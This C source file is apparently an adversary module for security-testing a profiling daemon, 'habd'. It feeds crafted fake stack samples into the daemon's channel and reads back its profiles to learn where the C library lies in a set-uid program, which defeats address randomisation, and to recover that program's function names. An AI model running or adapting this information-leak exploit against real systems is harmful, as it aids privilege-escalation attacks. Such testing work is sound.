// SPDX-License-Identifier: GPL-2.0-only
/*
 * The strategy of the adversary against the address space of a set-uid program.
 *
 * A child connects to habd and then runs the program, whose maps the user may not read. This
 * process has the memory of the channel, and goes on writing: samples of addresses that are far
 * apart, but less than the text of the C library. The one that lies in it gets a name, or an
 * offset, in the profile that habd gives the user of his own processes. More samples, a page apart,
 * then find where it begins. And addresses in the program itself get the names of its functions,
 * though the user may not read its file.
 */
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include "adversary.h"
#include "channel.h"

#define PAGE	  4096ul
#define SCANNED	  (1ull << 40)	    /* bytes in which libraries lie: 28 random bits of pages */
#define TOP	  0x7ffbffffe000ull /* above them there is the stack */
#define BATCH	  1500u		    /* samples of one tag: a profile has 131072 frames */
#define PROGRAM	  0x401000ull	    /* text of a program that is always at the same place */
#define NAMES	  1024u		    /* addresses looked at there */
#define NAME_STEP 16u
#define UNKNOWN	  "[unknown]"
#define ANSWER	  (64u << 20)

/* A row of addresses: number n is at first + n * step. */
struct row {
	const char *tag;
	uint64_t first;
	uint64_t step;
	unsigned int nr;
};

static char answer[ANSWER];

/* The text of the C library that this process runs has this many bytes. */
static uint64_t library_bytes(void)
{
	uint64_t start, end, most = 0;
	char line[512], right;
	FILE *file = fopen("/proc/self/maps", "re");

	while (file && fgets(line, sizeof(line), file))
		if (strstr(line, "libc.so") &&
		    sscanf(line, "%" SCNx64 "-%" SCNx64 " %*c%*c%c", &start, &end, &right) == 3 &&
		    right == 'x' && end - start > most)
			most = end - start;
	if (file)
		fclose(file);
	return most;
}

/* NULL: no answer. */
static char *get(const char *socket_path, const char *tag)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	char request[256];
	size_t length = 0;
	ssize_t got = 1;

	strncpy(address.sun_path, socket_path, sizeof(address.sun_path) - 1);
	snprintf(request, sizeof(request),
		 "GET /v1/profile?format=folded&tag=%s HTTP/1.0\r\nHost: localhost\r\n\r\n", tag);
	if (!connect(fd, (struct sockaddr *)&address, sizeof(address)) &&
	    send(fd, request, strlen(request), MSG_NOSIGNAL) > 0)
		while (length < sizeof(answer) - 1 && got > 0) {
			got = read(fd, answer + length, sizeof(answer) - 1 - length);
			length += got > 0 ? (size_t)got : 0;
		}
	close(fd);
	answer[length] = 0;
	return strstr(answer, "\r\n\r\n");
}

/* The command of a sample is the number of its first address in the row. */
static bool write_row(struct hab_channel *channel, const struct row *row)
{
	struct channel_sample sample = { .bytes = 64, .tag = row->tag };
	char comm[16];
	unsigned int i, j;

	sample.comm = comm;
	for (i = 0; i < row->nr; i += HAB_STACK_DEPTH) {
		snprintf(comm, sizeof(comm), "%x", i);
		sample.nr_addresses = HAB_STACK_DEPTH;
		for (j = 0; j < HAB_STACK_DEPTH; j++)
			/* They are return addresses: the one before is looked up. */
			sample.addresses[j] = row->first + (i + j) * row->step + 1;
		if (!channel_put(channel, &sample))
			return false;
		adversary_add(COUNT_OPERATIONS, 1);
	}
	return channel_wait(channel);
}

/* Calls @found for each address of the row that has a name: in the line the leaf is the last. */
static void read_row(const char *socket_path, const struct row *row,
		     void (*found)(unsigned int number, const char *name))
{
	char *line, *next = get(socket_path, row->tag), *frame, *semicolon;
	unsigned int first, i;

	while ((line = next)) {
		next = strchr(line, '\n');
		if (next)
			*next++ = 0;
		frame = strrchr(line, ' ');
		if (!frame || sscanf(line, "%x;", &first) != 1)
			continue;
		*frame = 0;
		for (i = 0; (semicolon = strrchr(line, ';')); i++) {
			frame = semicolon + 1;
			if (strncmp(frame, UNKNOWN, strlen(UNKNOWN)) != 0 && *frame != '[')
				found(first + i, frame);
			*semicolon = 0;
		}
	}
}

static uint64_t hit, lowest; /* addresses; 0: none */
static const struct row *row_read;

static void find_hit(unsigned int number, const char *name)
{
	adversary_add(COUNT_EFFECTS, 1);
	if (!hit)
		printf("hit 0x%" PRIx64 " %s\n", row_read->first + number * row_read->step, name);
	hit = row_read->first + number * row_read->step;
}

static void find_lowest(unsigned int number, const char *name)
{
	uint64_t address = row_read->first + number * row_read->step;

	(void)name;
	if (!lowest || address < lowest)
		lowest = address;
}

static void find_name(unsigned int number, const char *name)
{
	static char last[256];

	(void)number;
	adversary_add(COUNT_EFFECTS, 1);
	if (!strncmp(last, name, sizeof(last) - 1))
		return;
	strncpy(last, name, sizeof(last) - 1);
	printf("name %s\n", name);
}

static void scan_names(struct hab_channel *channel, const char *socket_path)
{
	const struct row row = { "names", PROGRAM, NAME_STEP, NAMES };

	row_read = &row;
	if (!write_row(channel, &row))
		return;
	/* Their maps are read meanwhile, and names that come late are in the next profile. */
	adversary_sleep_ms(1000);
	get(socket_path, row.tag);
	adversary_sleep_ms(500);
	read_row(socket_path, &row, find_name);
	fflush(stdout);
}

static void scan_library(struct hab_channel *channel, const char *socket_path, uint64_t bytes)
{
	uint64_t step = bytes - PAGE, all = SCANNED / step, done;
	char tag[32] = "";
	struct row row = { tag, 0, step, BATCH * HAB_STACK_DEPTH };
	struct row fine = { "fine", 0, PAGE, 512 };
	uint64_t bottom = TOP - SCANNED;

	/* The likely places are not known: from the top, since what is in between is all alike. */
	for (done = 0; done < all && !hit && adversary_runs(); done += row.nr) {
		row.first = bottom + done * step;
		snprintf(tag, sizeof(tag), "scan-%u", (unsigned int)(done / row.nr));
		row_read = &row;
		if (!write_row(channel, &row))
			return;
		adversary_sleep_ms(100);
		read_row(socket_path, &row, find_hit);
	}
	if (!hit)
		return;
	fine.first = (hit & ~(PAGE - 1)) - (fine.nr - 1) * PAGE;
	row_read = &fine;
	if (write_row(channel, &fine)) {
		adversary_sleep_ms(300);
		read_row(socket_path, &fine, find_lowest);
	}
	printf("library 0x%" PRIx64 "\n", lowest);
	fflush(stdout);
}

static bool runs_program(pid_t child, const char *program)
{
	const char *slash = strrchr(program, '/');
	char path[64], comm[64] = "";
	unsigned int i;
	FILE *file;

	snprintf(path, sizeof(path), "/proc/%d/comm", child);
	for (i = 0; i < 200; i++) {
		file = fopen(path, "re");
		if (file && fgets(comm, sizeof(comm), file))
			comm[strcspn(comm, "\n")] = 0;
		if (file)
			fclose(file);
		if (!strncmp(comm, slash ? slash + 1 : program, 15))
			return true;
		adversary_sleep_ms(10);
	}
	return false;
}

/*
 * Arguments: the channel's socket, that of HTTP, and the set-uid program, which waits for its
 * standard input. It prints its pid, the start of the library's text, and names of functions.
 */
void strategy_set_uid(void)
{
	const char *program = adversary_argument(2);
	uint64_t bytes = library_bytes();
	struct hab_channel *channel;
	int memfd, connection, input[2];
	pid_t child;

	channel = channel_new(&memfd);
	if (!program || !channel || pipe(input))
		return;
	child = fork();
	if (!child) {
		connection = channel_connect(adversary_argument(0));
		if (connection < 0 || !channel_send(connection, &memfd, 1))
			_exit(1);
		dup2(input[0], STDIN_FILENO);
		close(input[1]);
		execl(program, program, NULL);
		_exit(1);
	}
	close(input[0]);
	printf("pid %d\n", child);
	fflush(stdout);
	if (runs_program(child, program)) {
		scan_names(channel, adversary_argument(1));
		scan_library(channel, adversary_argument(1), bytes);
	}
	printf("scanned\n");
	fflush(stdout);
	while (adversary_runs())
		adversary_sleep_ms(100);
	/* The program's input ends. */
	close(input[1]);
	waitpid(child, NULL, 0);
}
